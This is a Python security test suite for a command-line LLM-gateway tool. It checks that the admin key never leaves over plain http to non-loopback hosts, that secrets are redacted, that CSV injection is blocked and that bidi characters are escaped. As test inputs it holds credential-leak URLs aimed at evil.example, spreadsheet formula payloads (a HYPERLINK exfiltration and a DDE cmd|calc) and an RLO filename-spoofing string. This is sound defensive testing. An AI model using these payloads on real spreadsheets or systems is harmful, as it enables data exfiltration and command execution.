#!/usr/bin/env python3
"""Secrets and the terminal, through the real binary: the admin key goes only
to https or to a loopback host (the URL parsed, not prefix-matched); --redact
masks the secrets people paste, also when written with JSON escapes; CSV
cells cannot be spreadsheet formulas; bidi controls, zero-width characters and
line separators are shown as escapes, never sent to the terminal raw."""
import csv
import io
import json
import os
import re
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from harness import BIN, check_sanitizers, expect, main
from sync_test import KEY as FAKE_KEY, Fake, make_logs

ADMIN = "admin-key-SECRET-0123456789abcdef"
NOW = "2026-11-24T12:00:00Z"


def run(d, *args, stdin=None, **extra):
    env = dict(os.environ, HOME=d, XDG_CONFIG_HOME=os.path.join(d, "cfg"), TOLLGATE_NOW=NOW, USER="lead",
               TOLLGATE_RETRY_BASE_MS="10", TOLLGATE_HTTP_TIMEOUT_MS="2000", RESPAN_API_KEY=ADMIN,
               LITELLM_MASTER_KEY=ADMIN)
    for k in ("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "all_proxy", "NO_PROXY",
              "no_proxy"):
        env.pop(k, None)
    env.update({k: v for k, v in extra.items() if v is not None})
    db = extra.pop("db", "s.db")
    p = subprocess.run([BIN, "--db", os.path.join(d, db), *args], capture_output=True, input=stdin, env=env,
                       timeout=120)
    err = p.stderr.decode(errors="replace")
    check_sanitizers(err, " ".join(args))
    return p.returncode, p.stdout.decode(errors="replace"), err


# ---- 14: the admin key only to https or to loopback ---------------------------

class Recorder:
    """An HTTP proxy on 127.0.0.1 that records what reaches it and answers 502.
    The hostile URLs are tried with http_proxy / https_proxy pointing here, so a
    key that would have gone to evil.example is caught on loopback, and no test
    resolves or reaches a real host."""

    def __init__(self):
        calls = self.calls = []

        class Handler(BaseHTTPRequestHandler):
            def handle_one_request(self):
                try:
                    super().handle_one_request()
                except OSError:
                    pass

            def answer(self):
                calls.append((self.command, self.path, self.headers.get("Authorization")))
                self.send_response(502)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_POST = do_PATCH = do_CONNECT = answer

            def log_message(self, *a):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


HOSTILE_URLS = [
    "http://127.0.0.1.evil.example/api/",     # starts like loopback, is a name under evil.example
    "http://localhost:pw@evil.example/api/",  # "localhost" is the user name
    "http://127.evil.example/api/",
    "http://localhost.evil.example/api/",     # LiteLLM's check was "http://localhost" as a prefix
    "http://127.0.0.1@evil.example/api/",
    "https://user:pw@gateway.example/api/",   # https, but with a password in it
]


def test_admin_key_only_to_loopback_by_host_not_prefix(d):
    log = {"unique_id": "k1", "timestamp": "2026-11-24T09:00:00Z", "model": "gpt-5.5", "customer_identifier": "bob",
           "organization_key_id": "kid-1", "organization_key_name": "some-key", "cost": 0.01}
    rc, out, err = run(d, "import", "-", stdin=(json.dumps(log) + "\n").encode())
    expect(rc == 0, err)
    rec = Recorder()
    proxy = dict(http_proxy=rec.url, https_proxy=rec.url, HTTPS_PROXY=rec.url)
    try:
        for url in HOSTILE_URLS:
            for gateway, var in (("respan", "RESPAN_BASE_URL"), ("litellm", "LITELLM_BASE_URL")):
                rc, out, err = run(d, "keys", "revoke", "some-key", "--gateway", gateway, "--yes",
                                   **{var: url}, **proxy)
                expect(rec.calls == [], f"{gateway} {url}: the admin key was sent: {rec.calls}")
                expect(rc == 2, f"{gateway} {url}: exit {rc}\n{out}{err}")
                expect("refusing to send" in err, f"{gateway} {url}: {err}")
                expect(":pw@" not in err, f"the password echoed: {err}")
                expect(ADMIN not in out + err, err)
    finally:
        rec.close()


def test_loopback_and_https_still_accepted(d):
    fake = Fake(d, make_logs(3))
    try:
        port = fake.base.rsplit(":", 1)[1]
        for base in (f"http://127.0.0.1:{port}", f"http://localhost:{port}", f"http://127.1:{port}",
                     f"http://LOCALHOST:{port}"):
            rc, out, err = run(d, "sync", RESPAN_BASE_URL=base + "/api/", RESPAN_API_KEY=FAKE_KEY)
            expect(rc == 0, f"{base}: exit {rc}\n{out}{err}")
        # [::1] and https pass the check (nothing listens there: a connection error, not a refusal)
        for base in ("http://[::1]:9/api/", "https://127.0.0.1:9/api/"):
            rc, out, err = run(d, "sync", RESPAN_BASE_URL=base)
            expect(rc == 2 and "refusing" not in err, f"{base}: {err}")
        rc, out, err = run(d, "sync", RESPAN_BASE_URL="http://gateway.example.com/api/")
        expect(rc == 2 and "use https://" in err, err)
    finally:
        fake.stop()


# ---- 15: --redact masks the secrets people paste, decoded -------------------

# (as written in the log's JSON, the part that must not be stored)
PASTED = [
    ("stripe sk_live_51HbSTRIPEsecretVALUE0001", "51HbSTRIPEsecretVALUE0001"),
    ("restricted rk_live_51HbRESTRICTEDvalue0002", "51HbRESTRICTEDvalue0002"),
    ("slack xoxb-2048-4096-SLACKsecretValue", "SLACKsecretValue"),
    ("maps AIzaSyGOOGLEsecret-1234567890abcdefghij", "SyGOOGLEsecret"),
    ("jwt eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJKV1RzdWJqZWN0In0.JWTsignatureVALUE42", "JWTsignatureVALUE42"),
    ("DATABASE_URL=postgres://app:PGpasswordVALUE@db.internal:5432/app", "PGpasswordVALUE"),
    ("PASSWORD=ASSIGNEDpasswordVALUE", "ASSIGNEDpasswordVALUE"),
    ("gitlab glpat-GITLABsecretVALUE0123456", "GITLABsecretVALUE0123456"),
    ("hf hf_HUGGINGFACEsecretVALUEabcdefghijklmn", "HUGGINGFACEsecretVALUEabcdefghijklmn"),
    ("npm npm_NPMsecretVALUEabcdefghijklmnopqrstuvw", "NPMsecretVALUEabcdefghijklmnopqrstuvw"),
    # a JSON escape in the middle of the key: the decoded text is an sk-proj- key
    ("escaped sk\\u002dproj-ESCAPEDsecretVALUE0123", "ESCAPEDsecretVALUE0123"),
]


def searchable(d, db, word):
    """How many stored requests hold word (the full-text index over the stored bodies)."""
    rc, out, err = run(d, "index", "--search", word, db=db)
    expect(rc == 0, err)
    return sum(1 for line in out.splitlines() if line[:4].isdigit())


def test_redact_masks_pasted_secrets_and_escaped_keys(d):
    content = "\\n".join(text for text, _ in PASTED)
    line = ('{"unique_id": "pasted-1", "timestamp": "2026-11-24T09:00:00Z", "model": "gpt-5.5", '
            '"customer_identifier": "alice", "cost": 0.01, "prompt_messages": [{"role": "user", "content": "'
            + content + '"}]}\n')
    json.loads(line)
    path = os.path.join(d, "pasted.jsonl")
    with open(path, "w") as f:
        f.write(line)
    rc, out, err = run(d, "import", "--redact", path, db="red.db")
    expect(rc == 0 and "imported 1" in out, out + err)
    rc, out, err = run(d, "import", path, db="plain.db")
    expect(rc == 0 and "imported 1" in out, out + err)
    for _, secret in PASTED:
        expect(searchable(d, "plain.db", secret) == 1, f"{secret}: not findable even without --redact")
        expect(searchable(d, "red.db", secret) == 0, f"{secret} was stored despite --redact")
    expect(searchable(d, "red.db", "sk-proj-[REDACTED]") == 1, "the escaped key is not shown as masked")


# ---- 16: CSV cells are never formulas -----------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1",
            "-2+3", "\t=1+1", "\r=1+1"]


def formula_cells(text):
    """Cells a spreadsheet would evaluate: starting with = + - @ TAB CR, and not a plain number."""
    bad = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-?\d+(\.\d+)?", cell):
                bad.append(cell)
    return bad


def test_csv_never_emits_a_formula(d):
    logs = [{"unique_id": f"f{i}", "timestamp": "2026-11-24T09:00:00Z", "model": f, "customer_identifier": f,
             "organization_key_id": f"kid-{i}", "organization_key_name": f, "prompt_tokens": 10, "cost": 0.01}
            for i, f in enumerate(FORMULAS)]
    rc, out, err = run(d, "import", "-", stdin="".join(json.dumps(l) + "\n" for l in logs).encode())
    expect(rc == 0, err)
    # a revocation that fails (nothing listens on port 9) leaves an audit row naming the key
    rc, out, err = run(d, "keys", "revoke", FORMULAS[1], "--yes", RESPAN_BASE_URL="http://127.0.0.1:9/api/",
                       TOLLGATE_HTTP_TIMEOUT_MS="300")
    expect(rc == 2, out + err)
    outputs = {}
    for by in ("developer", "key", "model"):
        outputs["report " + by] = run(d, "report", "--by", by, "--format", "csv", "--since", "30d")
    outputs["keys"] = run(d, "keys", "--offline", "--format", "csv")
    outputs["audit"] = run(d, "audit", "--format", "csv")
    for what, (rc, out, err) in outputs.items():
        expect(rc == 0, f"{what}: {err}")
        expect(formula_cells(out) == [], f"{what}: formulas {formula_cells(out)}\n{out}")
    report = list(csv.reader(io.StringIO(outputs["report developer"][1])))
    names = {row[0] for row in report[1:]}
    expect("'=cmd|' /C calc'!A0" in names and "'@SUM(1+1)" in names and "'-2+3" in names, names)
    expect(FORMULAS[1] in outputs["audit"][1].replace("'=cmd", "=cmd"), outputs["audit"][1])
    expect(report[1][1].isdigit() and re.fullmatch(r"\d+\.\d+", report[1][8]), report[1])  # numbers stay numbers


# ---- 17: bidi controls, zero-width characters and line separators ------------

INVISIBLE = {"\u202e": "\\u202e", "\u202a": "\\u202a", "\u2066": "\\u2066", "\u2069": "\\u2069",
             "\u200e": "\\u200e", "\u200f": "\\u200f", "\u061c": "\\u061c", "\u200b": "\\u200b",
             "\u200d": "\\u200d", "\u2060": "\\u2060", "\ufeff": "\\ufeff", "\u2028": "\\u2028",
             "\u2029": "\\u2029", "\U000e0041": "\\U000e0041"}


def test_bidi_and_zero_width_are_shown_as_escapes(d):
    # "alice" + RLO + "txt.exe": shown raw, a terminal draws it as "aliceexe.txt"
    names = ["alice\u202etxt.exe", "bo\u200bb", "car\u2028ol", "da" + "".join(INVISIBLE) + "ve"]
    logs = [{"unique_id": f"i{i}", "timestamp": "2026-11-24T09:00:00Z", "model": "gpt\u200d-5.5",
             "customer_identifier": n, "organization_key_name": n + "-key", "cost": 0.01}
            for i, n in enumerate(names)]
    rc, out, err = run(d, "import", "-", stdin="".join(json.dumps(l) + "\n" for l in logs).encode())
    expect(rc == 0, err)
    for args in (["report"], ["report", "--by", "key"], ["report", "--by", "model"],
                 ["report", "--format", "csv"], ["keys", "--offline"], ["keys", "--offline", "--format", "csv"]):
        rc, out, err = run(d, *args, COLUMNS="200")
        expect(rc == 0, err)
        for ch, esc in INVISIBLE.items():
            expect(ch not in out + err, f"{args}: raw U+{ord(ch):04X} in the output:\n{out}")
        if args == ["report"]:
            expect("alice\\u202etxt.exe" in out and "bo\\u200bb" in out and "car\\u2028ol" in out, out)
            # the columns line up: every row as wide as the header
            lines = [l for l in out.splitlines()[2:] if l.strip() and not l.startswith("-")]
            expect(len({len(l) for l in lines}) == 1, "\n".join(lines))
        if args == ["report", "--format", "csv"]:  # the whole name: the table cuts it
            expect(all(esc in out for esc in INVISIBLE.values()), out)


if __name__ == "__main__":
    main("secrets", globals())
